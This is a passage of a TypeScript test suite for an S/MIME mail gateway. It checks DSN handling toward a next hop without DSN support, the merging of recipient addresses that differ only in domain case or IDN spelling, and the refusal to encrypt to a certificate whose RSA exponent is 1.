  const refused = await lmtpTransaction(['<erin@example.com>', '<erin@example.com>'], big);
  assert.deepEqual(refused.slice(2).map((r) => r.code), [250, 250, 250, 354, 552, 552, 221], refused.map((r) => r.text).join('\n'));
});

test('RFC 3461 4.1, 6.2: toward a next hop that does not advertise DSN, recipients who asked NOTIFY=SUCCESS get the sender a "relayed" DSN of the gateway\'s (Original-Envelope-Id, Original-Recipient, headers only); the others none (a next hop with DSN: none at all, see the DSN test above)', async () => {
  const plain = await new Sink({ dsn: false }).start();
  const g = await startGateway({ listen: { host: '127.0.0.1', port: 0 }, nextHop: { host: '127.0.0.1', port: plain.port }, domains: new Set(['corp.test']), authservId: 'mx.corp.test', lmtp: true }, store, log);
  try {
    const msg = draft('Alice <alice@corp.test>', 'carol@example.com, erin@example.com', 'Relayed', 'RELAYED-BODY').toString('latin1');
    const replies = await smtpDialogue(g.listening.port, ['LHLO client.test', 'MAIL FROM:<alice@corp.test> RET=FULL ENVID=rel+2B1', 'RCPT TO:<carol@example.com> NOTIFY=SUCCESS,FAILURE ORCPT=rfc822;c+2Bx@example.com', 'RCPT TO:<erin@example.com> NOTIFY=FAILURE', 'DATA', `${msg}.`, 'QUIT']);
    assert.deepEqual(replies.slice(2).map((r) => r.code), [250, 250, 250, 354, 250, 250, 221], replies.map((r) => r.text).join('\n'));
    assert.equal(plain.deliveries.length, 3, 'Carol\'s copy, Erin\'s copy, the relayed DSN to Alice');
    for (const to of ['carol@example.com', 'erin@example.com']) assert.deepEqual(plain.deliveryTo(to).rcptDsn, [undefined], `${to}: no DSN parameters toward a next hop without DSN`);
    // Erin did not ask for success notices.
    assertRelayedDsn(plain.deliveryTo('alice@corp.test'), { envid: 'rel+1', recipients: [{ recipient: 'carol@example.com', orcpt: 'rfc822;c+x@example.com' }], body: /RELAYED-BODY/ });
    const line = JSON.parse(logLines.filter((l) => l.includes('"event":"message"')).at(-1)!);
    assert.deepEqual(line.relayedDsn, { notified: 1, suppressed: 0, outcome: 'accepted' });
  } finally {
    await g.stop();
    await plain.stop();
  }
});

/** RCPT command text as UTF-8 bytes for smtpDialogue (which writes latin1). */
const utf8Command = (command: string) => Buffer.from(command, 'utf8').toString('latin1');

test('one mailbox, one copy (issue 13): RCPTs naming a mailbox with its domain in other case, or in Unicode labels beside its xn-- form, are one recipient, encrypted to its one certificate whichever spelling came first; LMTP still answers each RCPT', async () => {
  // Local parts stay apart (RFC 5321 2.4, the LMTP test above); domains do not (RFC 5321 2.4,
  // RFC 5890 2.3.2.1: 例え.jp and xn--r8jz45g.jp are one domain). Before, each spelling was a
  // recipient of its own: two copies, and for daisuke@例え.jp the store found no certificate, so one
  // of his two copies left signed only, in clear, beside the encrypted one.
  const carol = world.pki.identity('rsa2048', 'carol');
  const daisuke = world.pki.identity('p256', 'daisuke', { domain: 'xn--r8jz45g.jp' });
  await store.importCertificate(daisuke.cert);
  const isEncryptedFor = async (message: Buffer, who: { certPath: string; keyPath: string }) => {
    assert.match(message.toString('latin1'), /application\/pkcs7-mime/);
    assert.doesNotMatch(message.toString('latin1'), /One copy each/);
    const opened = await opensslDecryptMime(w.dir, message, who.certPath, who.keyPath);
    assert.ok(opened.ok, opened.detail);
  };
  reset();
  const msg = draft('Alice <alice@corp.test>', 'carol@example.com', 'Spellings', 'One copy each.');
  const replies = await smtpDialogue(smtp.listening.port, ['EHLO client.test', 'MAIL FROM:<alice@corp.test>', 'RCPT TO:<carol@Example.COM> NOTIFY=SUCCESS ORCPT=rfc822;carol@Example.COM', 'RCPT TO:<carol@example.com> NOTIFY=FAILURE', 'DATA', `${msg.toString('latin1')}.`, 'QUIT']);
  assert.deepEqual(replies.slice(3).map((r) => r.code), [250, 250, 354, 250, 221], replies.map((r) => r.text).join('\n'));
  assert.equal(sink.deliveries.length, 1, `one copy: ${JSON.stringify(sink.deliveries.map((d) => d.to))}`);
  assert.deepEqual(sink.deliveries[0]!.to, ['carol@Example.COM'], 'the spelling given first');
  // Both RCPTs' DSN requests on the one copy (mergeRepeat), the first ORCPT.
  assert.deepEqual(sink.deliveries[0]!.rcptDsn, [{ notify: ['SUCCESS', 'FAILURE'], orcpt: 'rfc822;carol@Example.COM' }]);
  await isEncryptedFor(sink.deliveries[0]!.message, carol);

  // An SMTPUTF8 client under LMTP: daisuke's domain by its Unicode labels first, then its A-label, then again.
  reset();
  const idn = draft('Alice <alice@corp.test>', 'daisuke@xn--r8jz45g.jp', 'Spellings', 'One copy each.');
  const lmtpReplies = await smtpDialogue(lmtp.listening.port, ['LHLO client.test', 'MAIL FROM:<alice@corp.test> SMTPUTF8', utf8Command('RCPT TO:<daisuke@例え.jp>'), 'RCPT TO:<daisuke@XN--R8JZ45G.jp>', utf8Command('RCPT TO:<daisuke@例え.JP>'), 'DATA', `${idn.toString('latin1')}.`, 'QUIT']);
  // Three accepted RCPTs, three replies after DATA (RFC 2033 4.2), each the one copy's outcome.
  assert.deepEqual(lmtpReplies.slice(2).map((r) => r.code), [250, 250, 250, 250, 354, 250, 250, 250, 221], lmtpReplies.map((r) => r.text).join('\n'));
  assert.equal(sink.deliveries.length, 1, `one copy: ${JSON.stringify(sink.deliveries.map((d) => d.to))}`);
  assert.deepEqual(sink.deliveries[0]!.to, ['daisuke@例え.jp']);
  await isEncryptedFor(sink.deliveries[0]!.message, daisuke);
});

test('outbound: a recipient whose certificate\'s key cannot keep a content key secret (RSA exponent 1: the content key in clear) gets the signed copy, as one without a certificate; with encryption required, the policy\'s answer (bounce, saying why)', async () => {
  // An outside CA the store trusts certified the key; test/security/26-unusable-recipient-keys.test.ts has the other such keys.
  const n = Buffer.from(generateKeyPairSync('rsa', { modulusLength: 2048 }).publicKey.export({ format: 'jwk' }).n!, 'base64url');
  const spki = sequence(sequence(oid(OID.rsaEncryption), NULL), bitString(sequence(unsignedInteger(n), integer(1))));
  await store.importCertificate(world.pki.certifyPublicKeyInfo('mallory', spki, ['keyEncipherment']).cert);
  reset();
  const msg = draft('Alice <alice@corp.test>', 'mallory@example.com, carol@example.com', 'Exponent one', 'Not for the wire in clear.');
  const r = await sendTo(smtp.listening.port, 'alice@corp.test', ['mallory@example.com'], msg);
  assert.equal(r.code, 250, r.response);
  const copy = sink.deliveryTo('mallory@example.com').message.toString('latin1');
  assert.match(copy, /multipart\/signed/);
  assert.doesNotMatch(copy, /application\/pkcs7-mime/);
  const policies = new PolicyDirectory(store);
  await policies.set(levelRef('address', 'alice@corp.test'), { encrypt: 'required' });
  try {
    assert.equal(await lmtp.refreshPolicy(), true);
    reset();
    const carol = world.pki.identity('rsa2048', 'carol');
    const replies = await sendTo(lmtp.listening.port, 'alice@corp.test', ['mallory@example.com', 'carol@example.com'], msg, { lmtp: true });
    assert.deepEqual(replies.accepted, ['carol@example.com'], JSON.stringify(replies));
    assert.equal(sink.deliveries.filter((d) => d.to.includes('mallory@example.com')).length, 0, 'no copy for mallory');
    const opened = await opensslDecryptMime(w.dir, sink.deliveryTo('carol@example.com').message, carol.certPath, carol.keyPath);
    assert.ok(opened.ok, opened.detail);
  } finally {
    await policies.unset(levelRef('address', 'alice@corp.test'), ['encrypt']);
    await lmtp.refreshPolicy();
  }
});
